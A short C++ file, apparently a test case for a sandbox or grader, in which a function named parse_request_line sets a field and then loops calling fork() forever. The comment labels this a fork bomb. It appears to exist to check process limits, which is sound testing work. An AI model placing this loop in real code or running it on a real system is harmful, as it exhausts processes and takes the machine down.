// expected: processes: processes or more
// A fork bomb.
#include <unistd.h>

#include "exercise.hpp"

bool parse_request_line(std::string_view line, RequestLine& into) {
    into.method = line;
    for (;;) (void)::fork();
}
